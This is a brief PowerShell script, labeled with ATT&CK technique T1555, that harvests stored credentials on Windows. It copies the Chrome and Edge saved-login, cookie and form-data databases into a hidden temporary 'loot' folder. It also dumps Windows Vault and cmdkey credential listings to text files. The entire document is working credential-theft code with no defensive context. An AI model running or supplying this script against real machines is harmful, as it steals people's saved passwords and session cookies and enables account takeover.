# T1555: harvest what the browsers and the vault kept
$loot = Join-Path -Path $env:TEMP -ChildPath ('c_' + [guid]::NewGuid().ToString('N'))
New-Item -Path $loot -ItemType Directory | Out-Null

$profiles = @(
    "$env:LOCALAPPDATA\Google\Chrome\User Data\Default",
    "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default"
)
foreach ($p in $profiles) {
    foreach ($f in 'Login Data', 'Cookies', 'Web Data') {
        $src = Join-Path -Path $p -ChildPath $f
        if (Test-Path -Path $src) {
            Copy-Item -Path $src -Destination (Join-Path -Path $loot -ChildPath ((Split-Path -Path $p -Parent | Split-Path -Leaf) + "_$f"))
        }
    }
}

vaultcmd.exe /listcreds:"Windows Credentials" /all | Out-File -FilePath (Join-Path -Path $loot -ChildPath 'vault.txt')
cmdkey.exe /list | Out-File -FilePath (Join-Path -Path $loot -ChildPath 'cmdkey.txt')
